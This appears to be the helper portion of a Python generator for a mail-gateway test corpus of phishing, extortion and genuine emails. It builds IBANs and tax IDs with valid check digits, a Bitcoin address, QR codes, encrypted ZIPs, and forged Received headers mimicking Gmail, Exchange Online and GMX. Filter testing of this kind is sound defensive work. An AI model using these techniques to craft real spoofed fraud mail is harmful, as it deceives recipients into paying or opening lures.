#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""
Blind evaluation set for the Example Group inbound mail gateway (mx01.example.com).

Deterministic, stdlib only, no network.  Writes:
    ../attack/*.eml      40 messages the gateway must not deliver plainly
    ../business/*.eml    40 genuine messages the gateway must deliver
    ../MANIFEST.md, ../staff.txt

All attachments are inert placeholders (PDF stubs, text files inside ZIPs,
HTML/SVG pages pointing at invented attacker hosts).  QR codes are real and
decodable (own encoder below, byte mode, ECC level M, versions 1-10).
"""
import base64
import datetime as dt
import hashlib
import os
import quopri
import random
import struct
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)

# ---------------------------------------------------------------------------
# deterministic pseudo randomness
# ---------------------------------------------------------------------------

def rng(*key):
    h = hashlib.sha256("|".join(str(k) for k in key).encode()).digest()
    return random.Random(int.from_bytes(h[:8], "big"))


def rhex(r, n, upper=False):
    s = "".join(r.choice("0123456789abcdef") for _ in range(n))
    return s.upper() if upper else s


def ralnum(r, n, alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"):
    return "".join(r.choice(alphabet) for _ in range(n))


# ---------------------------------------------------------------------------
# bank / tax identifiers with valid check digits
# ---------------------------------------------------------------------------

def _iban_num(s):
    return int("".join(str(int(c, 36)) for c in s))


def iban(cc, bban):
    chk = 98 - _iban_num(bban + cc + "00") % 97
    return "%s%02d%s" % (cc, chk, bban)


def iban_ok(i):
    i = i.replace(" ", "")
    return _iban_num(i[4:] + i[:4]) % 97 == 1


def iban_fmt(i):
    return " ".join(i[k:k + 4] for k in range(0, len(i), 4))


def de_account_m00(base9):
    """German account number, check method 00 (mod 10, weights 2,1,2,...)."""
    s = 0
    for k, d in enumerate(reversed(base9)):
        p = int(d) * (2 if k % 2 == 0 else 1)
        s += p // 10 + p % 10
    return base9 + str((10 - s % 10) % 10)


def de_iban(blz, base9):
    return iban("DE", blz + de_account_m00(base9))


_CIN_ODD = [1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 2, 4, 18, 20, 11, 3, 6, 8, 12, 14, 16, 10, 22, 25, 24, 23]


def it_iban(abi, cab, conto):
    conto = conto.rjust(12, "0")
    s = 0
    for k, c in enumerate(abi + cab + conto):
        v = int(c) if c.isdigit() else ord(c) - 65
        s += _CIN_ODD[v] if k % 2 == 0 else v
    cin = chr(65 + s % 26)
    return iban("IT", cin + abi + cab + conto)


def _es_dc(ten):
    w = [1, 2, 4, 8, 5, 10, 9, 7, 3, 6]
    d = 11 - sum(int(a) * b for a, b in zip(ten, w)) % 11
    return {10: 1, 11: 0}.get(d, d)


def es_iban(ent, ofi, cuenta):
    dc = "%d%d" % (_es_dc("00" + ent + ofi), _es_dc(cuenta))
    return iban("ES", ent + ofi + dc + cuenta)


def pl_sortcode(bank3, branch4):
    s7 = bank3 + branch4
    w = [3, 9, 7, 1, 3, 9, 7]
    s = sum(int(a) * b for a, b in zip(s7, w))
    return s7 + str((10 - s % 10) % 10)


def pl_iban(bank3, branch4, acc16):
    return iban("PL", pl_sortcode(bank3, branch4) + acc16)


def nrb(i):  # Polish domestic format 26 digits, spaced 2+4*6
    d = i[2:]
    return d[:2] + " " + " ".join(d[k:k + 4] for k in range(2, 26, 4))


def gr_iban(bank3, branch4, acc16):
    return iban("GR", bank3 + branch4 + acc16)


def gb_iban(bic4, sort6, acc8):
    return iban("GB", bic4 + sort6 + acc8)


def lt_iban(bank5, acc11):
    return iban("LT", bank5 + acc11)


def _ru_ok(digits23):
    w = [7, 1, 3] * 8
    return sum((int(d) * w[k]) % 10 for k, d in enumerate(digits23)) % 10 == 0


def ru_account(bik, pre5, cur3, rest11):
    """20-digit Russian settlement account with valid control key for BIK."""
    for k in range(10):
        acc = pre5 + cur3 + str(k) + rest11
        if _ru_ok(bik[-3:] + acc):
            return acc
    raise ValueError


def ru_corr(bik, rest11):
    """Correspondent account 30101810 K rest11 ... validated with '0'+BIK[4:6]."""
    for k in range(10):
        acc = "30101810" + str(k) + rest11
        if _ru_ok("0" + bik[4:6] + acc):
            return acc
    raise ValueError


def ru_inn10(first9):
    w = [2, 4, 10, 3, 5, 9, 4, 6, 8]
    return first9 + str(sum(int(a) * b for a, b in zip(first9, w)) % 11 % 10)


def pl_nip(first9):
    w = [6, 5, 7, 2, 3, 4, 5, 6, 7]
    c = sum(int(a) * b for a, b in zip(first9, w)) % 11
    assert c != 10
    return first9 + str(c)


def it_piva(first10):
    s = 0
    for k, d in enumerate(first10):
        v = int(d)
        if k % 2 == 1:
            v *= 2
            v = v - 9 if v > 9 else v
        s += v
    return first10 + str((10 - s % 10) % 10)


def de_ustid(first8):
    p = 10
    for d in first8:
        s = (int(d) + p) % 10
        s = 10 if s == 0 else s
        p = (2 * s) % 11
    c = 11 - p
    return "DE" + first8 + str(0 if c == 10 else c)


def gr_afm(first8):
    s = sum(int(d) * 2 ** (8 - k) for k, d in enumerate(first8))
    return first8 + str(s % 11 % 10)


# ---------------------------------------------------------------------------
# bech32 (for the extortion sample)
# ---------------------------------------------------------------------------

_B32 = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"


def _bech32_polymod(values):
    gen = [0x3B6A57B2, 0x26508E6D, 0x1EA119FA, 0x3D4233DD, 0x2A1462B3]
    chk = 1
    for v in values:
        b = chk >> 25
        chk = (chk & 0x1FFFFFF) << 5 ^ v
        for i in range(5):
            chk ^= gen[i] if ((b >> i) & 1) else 0
    return chk


def bech32_p2wpkh(seed):
    prog = hashlib.sha256(seed.encode()).digest()[:20]
    acc, bits, data = 0, 0, [0]
    for b in prog:
        acc = (acc << 8) | b
        bits += 8
        while bits >= 5:
            bits -= 5
            data.append((acc >> bits) & 31)
    if bits:
        data.append((acc << (5 - bits)) & 31)
    hrp = "bc"
    hx = [ord(x) >> 5 for x in hrp] + [0] + [ord(x) & 31 for x in hrp]
    pm = _bech32_polymod(hx + data + [0] * 6) ^ 1
    chk = [(pm >> 5 * (5 - i)) & 31 for i in range(6)]
    return hrp + "1" + "".join(_B32[d] for d in data + chk)


# ---------------------------------------------------------------------------
# QR code encoder (ISO/IEC 18004, byte mode, ECC level M, versions 1..10)
# ---------------------------------------------------------------------------

_QR_M = {  # version: (ec codewords per block, [data codewords per block ...])
    1: (10, [16]), 2: (16, [28]), 3: (26, [44]), 4: (18, [32, 32]),
    5: (24, [43, 43]), 6: (16, [27] * 4), 7: (18, [31] * 4),
    8: (22, [38, 38, 39, 39]), 9: (22, [36, 36, 36, 37, 37]),
    10: (26, [43, 43, 43, 43, 44]),
}
_QR_ALIGN = {1: [], 2: [6, 18], 3: [6, 22], 4: [6, 26], 5: [6, 30], 6: [6, 34],
             7: [6, 22, 38], 8: [6, 24, 42], 9: [6, 26, 46], 10: [6, 28, 50]}


def _gf_mul(x, y):
    z = 0
    for i in reversed(range(8)):
        z = (z << 1) ^ ((z >> 7) * 0x11D)
        z ^= ((y >> i) & 1) * x
    return z


def _rs_divisor(deg):
    res = [0] * (deg - 1) + [1]
    root = 1
    for _ in range(deg):
        for j in range(deg):
            res[j] = _gf_mul(res[j], root)
            if j + 1 < deg:
                res[j] ^= res[j + 1]
        root = _gf_mul(root, 2)
    return res


def _rs_rem(data, div):
    res = [0] * len(div)
    for b in data:
        f = b ^ res.pop(0)
        res.append(0)
        for i, c in enumerate(div):
            res[i] ^= _gf_mul(c, f)
    return res


def qr_matrix(text):
    payload = text.encode("utf-8")
    for ver in range(1, 11):
        ec, blocks = _QR_M[ver]
        cap = sum(blocks)
        cbits = 8 if ver < 10 else 16
        if 4 + cbits + 8 * len(payload) <= cap * 8:
            break
    else:
        raise ValueError("payload too long for QR v10-M")
    bits = [0, 1, 0, 0]
    bits += [(len(payload) >> i) & 1 for i in reversed(range(cbits))]
    for b in payload:
        bits += [(b >> i) & 1 for i in reversed(range(8))]
    bits += [0] * min(4, cap * 8 - len(bits))
    bits += [0] * (-len(bits) % 8)
    data = [int("".join(map(str, bits[i:i + 8])), 2) for i in range(0, len(bits), 8)]
    pad = 0xEC
    while len(data) < cap:
        data.append(pad)
        pad ^= 0xEC ^ 0x11
    div = _rs_divisor(ec)
    dblocks, eblocks, k = [], [], 0
    for n in blocks:
        d = data[k:k + n]
        k += n
        dblocks.append(d)
        eblocks.append(_rs_rem(d, div))
    cw = []
    for i in range(max(blocks)):
        for d in dblocks:
            if i < len(d):
                cw.append(d[i])
    for i in range(ec):
        for e in eblocks:
            cw.append(e[i])

    size = ver * 4 + 17
    mod = [[False] * size for _ in range(size)]
    fun = [[False] * size for _ in range(size)]

    def setf(x, y, v):
        mod[y][x] = v
        fun[y][x] = True

    for i in range(size):
        setf(6, i, i % 2 == 0)
        setf(i, 6, i % 2 == 0)
    for cx, cy in ((3, 3), (size - 4, 3), (3, size - 4)):
        for dy in range(-4, 5):
            for dx in range(-4, 5):
                xx, yy = cx + dx, cy + dy
                if 0 <= xx < size and 0 <= yy < size:
                    setf(xx, yy, max(abs(dx), abs(dy)) not in (2, 4))
    al = _QR_ALIGN[ver]
    na = len(al)
    for i in range(na):
        for j in range(na):
            if (i, j) in ((0, 0), (0, na - 1), (na - 1, 0)):
                continue
            for dy in range(-2, 3):
                for dx in range(-2, 3):
                    setf(al[i] + dx, al[j] + dy, max(abs(dx), abs(dy)) != 1)

    def draw_format(mask):
        d = (0 << 3) | mask  # ECC M = 00
        r = d
        for _ in range(10):
            r = (r << 1) ^ ((r >> 9) * 0x537)
        b = ((d << 10) | r) ^ 0x5412
        g = lambda i: (b >> i) & 1 == 1
        for i in range(6):
            setf(8, i, g(i))
        setf(8, 7, g(6))
        setf(8, 8, g(7))
        setf(7, 8, g(8))
        for i in range(9, 15):
            setf(14 - i, 8, g(i))
        for i in range(8):
            setf(size - 1 - i, 8, g(i))
        for i in range(8, 15):
            setf(8, size - 15 + i, g(i))
        setf(8, size - 8, True)

    draw_format(0)
    if ver >= 7:
        r = ver
        for _ in range(12):
            r = (r << 1) ^ ((r >> 11) * 0x1F25)
        b = (ver << 12) | r
        for i in range(18):
            v = (b >> i) & 1 == 1
            a, c = size - 11 + i % 3, i // 3
            setf(a, c, v)
            setf(c, a, v)

    i = 0
    right = size - 1
    while right >= 1:
        if right == 6:
            right = 5
        for vert in range(size):
            for j in range(2):
                x = right - j
                up = ((right + 1) & 2) == 0
                y = size - 1 - vert if up else vert
                if not fun[y][x] and i < len(cw) * 8:
                    mod[y][x] = (cw[i >> 3] >> (7 - (i & 7))) & 1 == 1
                    i += 1
        right -= 2

    masks = [
        lambda x, y: (x + y) % 2 == 0, lambda x, y: y % 2 == 0,
        lambda x, y: x % 3 == 0, lambda x, y: (x + y) % 3 == 0,
        lambda x, y: (x // 3 + y // 2) % 2 == 0,
        lambda x, y: x * y % 2 + x * y % 3 == 0,
        lambda x, y: (x * y % 2 + x * y % 3) % 2 == 0,
        lambda x, y: ((x + y) % 2 + x * y % 3) % 2 == 0,
    ]

    def apply(m):
        for y in range(size):
            for x in range(size):
                if not fun[y][x] and masks[m](x, y):
                    mod[y][x] = not mod[y][x]

    def penalty():
        p = 0
        for grid in (mod, [list(c) for c in zip(*mod)]):
            for row in grid:
                run, prev = 0, None
                for v in row:
                    if v == prev:
                        run += 1
                    else:
                        if run >= 5:
                            p += run - 2
                        run, prev = 1, v
                if run >= 5:
                    p += run - 2
                s = "".join("1" if v else "0" for v in row)
                for pat in ("10111010000", "00001011101"):
                    p += 40 * s.count(pat)
        for y in range(size - 1):
            for x in range(size - 1):
                v = mod[y][x]
                if v == mod[y][x + 1] == mod[y + 1][x] == mod[y + 1][x + 1]:
                    p += 3
        dark = sum(sum(r) for r in mod)
        tot = size * size
        k = 0
        while abs(dark * 20 - tot * 10) > (k + 1) * tot:
            k += 1
        return p + 10 * k

    best, bm = None, 0
    for m in range(8):
        apply(m)
        draw_format(m)
        pn = penalty()
        if best is None or pn < best:
            best, bm = pn, m
        apply(m)
    apply(bm)
    draw_format(bm)
    return mod


def png_from_matrix(mat, scale=6, quiet=4):
    n = len(mat)
    w = (n + 2 * quiet) * scale
    raw = bytearray()
    for py in range(w):
        raw.append(0)
        my = py // scale - quiet
        for px in range(w):
            mx = px // scale - quiet
            dark = 0 <= mx < n and 0 <= my < n and mat[my][mx]
            raw.append(0 if dark else 255)

    def chunk(t, d):
        c = struct.pack(">I", len(d)) + t + d
        return c + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, w, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(bytes(raw), 9)) + chunk(b"IEND", b""))


# ---------------------------------------------------------------------------
# minimal PDF writer (placeholders; optional vector QR code)
# ---------------------------------------------------------------------------

def _pdf_esc(s):
    return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def pdf_doc(lines, title="Document", qr=None, author="", creator="Microsoft Word"):
    """lines: list of ASCII/latin-1 strings; qr: matrix drawn as vectors."""
    ops = ["BT /F1 10 Tf 56 790 Td 13 TL"]
    first = True
    for ln in lines:
        if first:
            ops.append("/F1 14 Tf (%s) Tj /F1 10 Tf T*" % _pdf_esc(ln))
            first = False
        else:
            ops.append("(%s) Tj T*" % _pdf_esc(ln))
    ops.append("ET")
    if qr:
        n = len(qr)
        cell = 5
        ox, oy = 200, 260
        ops.append("0 g")
        for y in range(n):
            for x in range(n):
                if qr[y][x]:
                    ops.append("%d %d %d %d re" % (ox + x * cell, oy + (n - 1 - y) * cell, cell, cell))
        ops.append("f")
    stream = "\n".join(ops).encode("latin-1")
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        ("<< /Title (%s) /Author (%s) /Creator (%s) /Producer (%s) /CreationDate (D:20261101090000+01'00') >>"
         % (_pdf_esc(title), _pdf_esc(author), _pdf_esc(creator), "Evaluation placeholder")).encode("latin-1"),
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for k, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n" % k + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for o in offs:
        out += b"%010d 00000 n \n" % o
    out += b"trailer\n<< /Size %d /Root 1 0 R /Info 6 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


# ---------------------------------------------------------------------------
# ZIP writer (stored, deterministic; optional traditional PKWARE encryption)
# ---------------------------------------------------------------------------

def _crc_tab():
    t = []
    for n in range(256):
        c = n
        for _ in range(8):
            c = (0xEDB88320 ^ (c >> 1)) if c & 1 else (c >> 1)
        t.append(c)
    return t


_CRCT = _crc_tab()


class _ZipCrypto:
    def __init__(self, pw):
        self.k = [0x12345678, 0x23456789, 0x34567890]
        for c in pw:
            self._upd(c)

    def _crc(self, c, b):
        return _CRCT[(c ^ b) & 0xFF] ^ (c >> 8)

    def _upd(self, b):
        k = self.k
        k[0] = self._crc(k[0], b)
        k[1] = (k[1] + (k[0] & 0xFF)) & 0xFFFFFFFF
        k[1] = (k[1] * 134775813 + 1) & 0xFFFFFFFF
        k[2] = self._crc(k[2], (k[1] >> 24) & 0xFF)

    def enc(self, data):
        out = bytearray()
        for b in data:
            t = (self.k[2] | 2) & 0xFFFF
            s = ((t * (t ^ 1)) >> 8) & 0xFF
            out.append(b ^ s)
            self._upd(b)
        return bytes(out)


def zip_bytes(files, password=None, when=(2026, 11, 2, 8, 41, 10)):
    """files: list of (name, bytes). Stored entries; deterministic."""
    y, mo, d, h, mi, s = when
    dtime = (h << 11) | (mi << 5) | (s // 2)
    ddate = ((y - 1980) << 9) | (mo << 5) | d
    out = bytearray()
    central = bytearray()
    for name, data in files:
        nb = name.encode("utf-8")
        crc = zlib.crc32(data) & 0xFFFFFFFF
        flags = 0x800 if any(ord(c) > 127 for c in name) else 0
        body = data
        if password:
            flags |= 1
            zc = _ZipCrypto(password.encode())
            r = rng("zip", name)
            hdr = bytes(r.randrange(256) for _ in range(11)) + bytes([crc >> 24])
            body = zc.enc(hdr) + zc.enc(data)
        off = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 0, dtime, ddate, crc,
                           len(body), len(data), len(nb), 0) + nb + body
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20, flags, 0, dtime, ddate,
                               crc, len(body), len(data), len(nb), 0, 0, 0, 0, 0o100644 << 16, off) + nb
    cd_off = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(files), len(files), len(central), cd_off, 0)
    return bytes(out)


INERT = ("INERT EVALUATION PLACEHOLDER - this file stands in for a malicious payload "
         "in a mail-filter test corpus. It contains no executable code.\n")

# ---------------------------------------------------------------------------
# MIME helpers
# ---------------------------------------------------------------------------

FALLBACK = {"\u2013": "-", "\u2014": "-", "\u201e": '"', "\u201c": '"', "\u201d": '"',
            "\u2018": "'", "\u2019": "'", "\u201a": "'", "\u2026": "...", "\u20ac": "EUR",
            "\u00a0": " ", "\u2022": "*", "\u00ab": '"', "\u00bb": '"', "\u2116": "N",
            "\u00b7": "."}


def encodable(text, cs):
    out = []
    for ch in text:
        try:
            ch.encode(cs)
            out.append(ch)
        except UnicodeEncodeError:
            rep = FALLBACK.get(ch)
            if rep is None:
                raise ValueError("cannot encode %r in %s" % (ch, cs))
            out.append(rep)
    return "".join(out)


def ew(text, cs="utf-8", mode="Q"):
    """RFC 2047 encoded-words (folded), or plain if ASCII."""
    if all(ord(c) < 128 for c in text):
        return text
    text = encodable(text, cs)
    csn = cs.upper() if not cs.lower().startswith("koi") else "KOI8-R"
    if cs.lower() == "utf-8":
        csn = "UTF-8"
    words, cur = [], ""

    def enc(s):
        b = s.encode(cs)
        if mode == "B":
            return "=?%s?B?%s?=" % (csn, base64.b64encode(b).decode())
        q = ""
        for x in b:
            c = chr(x)
            if c == " ":
                q += "_"
            elif c.isalnum() and x < 128 or c in "!*+-/":
                q += c
            else:
                q += "=%02X" % x
        return "=?%s?Q?%s?=" % (csn, q)

    for ch in text:
        if len(enc(cur + ch)) > 72:
            words.append(enc(cur))
            cur = ch
        else:
            cur += ch
    if cur:
        words.append(enc(cur))
    return "\n ".join(words)


def addr(name, a, cs="utf-8", mode="Q"):
    if not name:
        return a
    if all(ord(c) < 128 for c in name):
        if any(c in name for c in ',.;:()<>@"[]'):
            return '"%s" <%s>' % (name.replace('"', '\\"'), a)
        return "%s <%s>" % (name, a)
    return "%s <%s>" % (ew(name, cs, mode), a)


def fold(name, value):
    """Fold an ASCII header at spaces to <=78 chars."""
    line = name + ": " + value
    if len(line) <= 78 or "\n" in value:
        return line
    out, cur = [], ""
    for w in line.split(" "):
        if cur and len(cur) + 1 + len(w) > 76:
            out.append(cur)
            cur = " " + w
        else:
            cur = cur + " " + w if cur else w
    out.append(cur)
    return "\n".join(out)


def body_bytes(text, cs, cte):
    raw = encodable(text, cs).encode(cs)
    if cte == "quoted-printable":
        return quopri.encodestring(raw).rstrip(b"\n") + b"\n"
    if cte == "base64":
        return base64.encodebytes(raw)
    return raw if raw.endswith(b"\n") else raw + b"\n"


class Part:
    def __init__(self, ctype, headers=None, payload=None, parts=None, params=""):
        self.ctype, self.headers, self.payload, self.parts, self.params = ctype, headers or [], payload, parts, params


def text_part(text, cs, cte, sub="plain", extra=""):
    csn = "UTF-8" if cs.lower() == "utf-8" else ("KOI8-R" if cs.lower() == "koi8-r" else cs)
    if sub == "plain" and cs.lower() == "utf-8" and cte == "quoted-printable" and extra == "":
        pass
    return Part("text/%s" % sub, ["Content-Transfer-Encoding: %s" % cte],
                body_bytes(text, cs, cte), params='; charset="%s"%s' % (csn, extra))


def att_part(fname, ctype, data, inline=False, cid=None, cs="utf-8"):
    if all(ord(c) < 128 for c in fname):
        fn_ct = '; name="%s"' % fname
        fn_cd = 'filename="%s"' % fname
    else:
        fn_ct = '; name="%s"' % ew(fname, cs, "B")
        fn_cd = 'filename="%s"' % ew(fname, cs, "B")
    hs = ["Content-Disposition: %s; %s" % ("inline" if inline else "attachment", fn_cd),
          "Content-Transfer-Encoding: base64"]
    if cid:
        hs.insert(0, "Content-ID: <%s>" % cid)
    return Part(ctype, hs, base64.encodebytes(data), params=fn_ct)


def render(part, boundary_gen):
    """Return (content-type header value, headers list, body bytes)."""
    if part.parts is None:
        return part.ctype + part.params, part.headers, part.payload
    b = boundary_gen()
    body = bytearray()
    for sp in part.parts:
        ct, hs, pb = render(sp, boundary_gen)
        body += b"--" + b.encode() + b"\n"
        body += ("Content-Type: " + ct + "\n").encode()
        for h in hs:
            body += (h + "\n").encode()
        body += b"\n" + pb
        if not pb.endswith(b"\n"):
            body += b"\n"
        body += b"\n"
    body += b"--" + b.encode() + b"--\n"
    return '%s;\n\tboundary="%s"%s' % (part.ctype, b, part.params), [], bytes(body)


# ---------------------------------------------------------------------------
# dates
# ---------------------------------------------------------------------------

DAYS = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
MONS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def parse_local(s, tz):
    d = dt.datetime.strptime(s, "%Y-%m-%d %H:%M:%S")
    sign = 1 if tz[0] == "+" else -1
    off = dt.timedelta(hours=int(tz[1:3]), minutes=int(tz[3:5])) * sign
    return d.replace(tzinfo=dt.timezone(off))


def rfcdate(d, tzname=None):
    off = d.utcoffset()
    mins = int(off.total_seconds() // 60)
    sign = "+" if mins >= 0 else "-"
    mins = abs(mins)
    s = "%s, %d %s %d %02d:%02d:%02d %s%02d%02d" % (DAYS[d.weekday()], d.day, MONS[d.month - 1], d.year,
                                                  d.hour, d.minute, d.second, sign, mins // 60, mins % 60)
    if tzname:
        s += " (%s)" % tzname
    return s


CET = dt.timezone(dt.timedelta(hours=1))

# ---------------------------------------------------------------------------
# sending infrastructure profiles
# ---------------------------------------------------------------------------

def _mid_default(r, dom):
    return "<%s@%s>" % (rhex(r, 8) + "-" + rhex(r, 4) + "-" + rhex(r, 4) + "-" + rhex(r, 4) + "-" + rhex(r, 12), dom)


def boundary_style(style, r):
    cnt = [0]

    def gen():
        cnt[0] += 1
        if style == "outlook":
            return "_%03d_%s%s_" % ((0, 4, 5, 6)[min(cnt[0] - 1, 3)], r.choice(["AM9PR03MB", "DB9PR02MB", "PAXPR08MB", "VI1PR04MB", "FR3P281MB"]) + str(r.randint(1000, 9999)), rhex(r, 24, True))
        if style == "gmail":
            return "000000000000" + rhex(r, 16)
        if style == "tb":
            return "------------" + ralnum(r, 24, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
        if style == "apple":
            return "Apple-Mail=_%s-%s-%s-%s-%s" % (rhex(r, 8, True), rhex(r, 4, True), rhex(r, 4, True), rhex(r, 4, True), rhex(r, 12, True))
        if style == "php":
            return "b1=_" + ralnum(r, 43)
        if style == "java":
            return "----=_Part_%d_%d.%d" % (r.randint(10000, 999999), r.randint(100000000, 2000000000), r.randint(1700000000000, 1800000000000))
        if style == "rc":
            return "=_" + rhex(r, 32)
        if style == "mc":
            return "_----------=_MCPart_%d" % r.randint(100000000, 999999999)
        if style == "exch":
            return "----=_NextPart_%03d_%04X_01DB%04X.%08X" % (cnt[0] - 1, r.randint(0, 65535), r.randint(0, 65535), r.randint(0, 2 ** 32 - 1))
        return "===============%d==" % r.randint(10 ** 18, 10 ** 19)
    return gen


class Infra:
    def __init__(self, helo, rdns, ip, mid=None, bstyle="tb", hdrs=(), hops=(), tls=True, rp=None, label=""):
        self.helo, self.rdns, self.ip = helo, rdns, ip
        self.mid, self.bstyle, self.hdrs, self.hops, self.tls, self.rp = mid, bstyle, list(hdrs), list(hops), tls, rp
        self.label = label


def gmail(n, sub="ej1", a="209.85.218"):
    host = "mail-%s-f%d.google.com" % (sub, n)

    def mid(r, frm):
        return "<CA%s%s@mail.gmail.com>" % (ralnum(r, 3, "BDEFGHJKLMN"), ralnum(r, 44, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-+=") )

    def hops(r, sent):
        return ["Received: by %s with SMTP id %s-%s.%d\n        for <%%RCPT%%>; %s" %
                (host, "a640c23a62f3a", rhex(r, 14), r.randint(1, 9), rfcdate(sent.astimezone(dt.timezone(dt.timedelta(hours=-8))))),
                "X-Google-Smtp-Source: AGHT+I" + ralnum(r, 80, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") + "=",
                "X-Gm-Message-State: AOJu0Y" + ralnum(r, 60, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")]
    return Infra(host, host, "%s.%d" % (a, n), mid=mid, bstyle="gmail", hops=[hops], label="Gmail")


def o365(srv, region, eop_host, eop_ip, helo=None, xhdr=True, lang="de-DE"):
    """Exchange Online tenant. srv e.g. AM9PR03MB7123, region eurprd03."""
    fq = "%s.%s.prod.outlook.com" % (srv, region)

    def mid(r, frm):
        return "<%s%s@%s>" % (srv, rhex(r, 24, True), fq)

    def hops(r, sent):
        s2 = srv[:4] + "PR" + srv[6:8] + "CA" + "%04d" % r.randint(1, 9999)
        return ["Received: from %s (2603:10a6:%x:%x::%x) by\n %s.%s.prod.outlook.com (2603:10a6:%x:%x::%x) with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.%d.%d; %s" %
                (fq, r.randint(16, 999), r.randint(16, 999), r.randint(1, 255), s2, region, r.randint(16, 999), r.randint(16, 999), r.randint(1, 255),
                 r.randint(8100, 8900), r.randint(10, 40), rfcdate(sent.astimezone(dt.timezone.utc)).replace("+0000", "+0000")),
                "Received: from %s\n ([fe80::%x:%x:%x:%x]) by %s\n ([fe80::%x:%x:%x:%x%%4]) with mapi id 15.20.%d.%d; %s" %
                (fq, r.randint(1, 65535), r.randint(1, 65535), r.randint(1, 65535), r.randint(1, 65535), fq,
                 r.randint(1, 65535), r.randint(1, 65535), r.randint(1, 65535), r.randint(1, 65535), r.randint(8100, 8900), r.randint(10, 40),
                 rfcdate(sent.astimezone(dt.timezone.utc)))]
    h = []
    if xhdr:
        h = ["Accept-Language: %s, en-US" % lang, "Content-Language: %s" % lang, "X-MS-Has-Attach: %HASATT%",
             "X-MS-TNEF-Correlator:", "x-ms-publictraffictype: Email"]
    return Infra(helo or eop_host.split("-")[0].upper() + "-obe.outbound.protection.outlook.com", eop_host, eop_ip,
                 mid=mid, bstyle="outlook", hdrs=h, hops=[hops], label="Exchange Online")


def hotmail(n, ip):
    host = "mail-%s.outbound.protection.outlook.com" % n
    srv = "DU0P194MB%04d" % (sum(map(ord, n)) % 9000 + 1000)

    def mid(r, frm):
        return "<%s%s@%s.EURP194.PROD.OUTLOOK.COM>" % (srv, rhex(r, 22, True), srv)
    return Infra("EUR05-VI1-obe.outbound.protection.outlook.com", host, ip, mid=mid, bstyle="outlook",
                 hdrs=["Content-Language: en-GB", "X-MS-Has-Attach: %HASATT%", "X-MS-TNEF-Correlator:",
                       "x-ms-exchange-messagesentrepresentingtype: 1", "X-TMN: [%TMN%]"],
                 label="Outlook.com (consumer)")


def uiserv(kind, ip, client_ip, webmail=True):
    """GMX / WEB.DE (1&1 mout)."""
    mout = "mout.gmx.net" if kind == "gmx" else "mout.web.de"
    inner = "mail.gmx.net" if kind == "gmx" else "web.de"

    def mid(r, frm):
        if webmail:
            return "<trinity-%s-%s-%s-%s-%s-%d@3c-app-%s-bap%02d>" % (rhex(r, 8), rhex(r, 4), rhex(r, 4), rhex(r, 4), rhex(r, 12), r.randint(1700000000000, 1800000000000), "gmx" if kind == "gmx" else "webde", r.randint(1, 60))
        return _mid_default(r, kind + (".net" if kind == "gmx" else ".de"))

    def hops(r, sent):
        return ["Received: from [%s] ([%s]) by %s\n (mrgmx%03d [212.227.17.%d]) with ESMTPSA (Nemesis) id 1M%s; %s" %
                (client_ip if not webmail else "10.%d.%d.%d" % (r.randint(0, 255), r.randint(0, 255), r.randint(1, 254)), client_ip, inner,
                 r.randint(100, 120), r.randint(160, 190), ralnum(r, 12), rfcdate(sent))]
    h = ["X-Provags-ID: V03:K1:" + ralnum(r=rng(kind, ip), n=60, alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"),
         "X-UI-Out-Filterresults: notjunk:1;V03:K0:" + ralnum(rng(kind, client_ip), 11)]
    if webmail:
        h.append("X-Priority: 3")
        h.append("Importance: normal")
        h.append("Sensitivity: Normal")
        h.append("X-UI-Message-Type: mail")
    return Infra(mout, mout, ip, mid=mid, bstyle="java" if webmail else "tb", hdrs=h, hops=[hops], label=kind.upper())


def server(helo, rdns, ip, dom, bstyle="tb", hdrs=(), inner=None, tls=True, mid=None, label=""):
    """A company mail server or hosting platform."""
    def hops(r, sent):
        if not inner:
            return []
        return ["Received: from %s by %s with ESMTPSA id %s; %s" % (inner, helo, ralnum(r, 10), rfcdate(sent))]

    def dmid(r, frm):
        return _mid_default(r, dom)
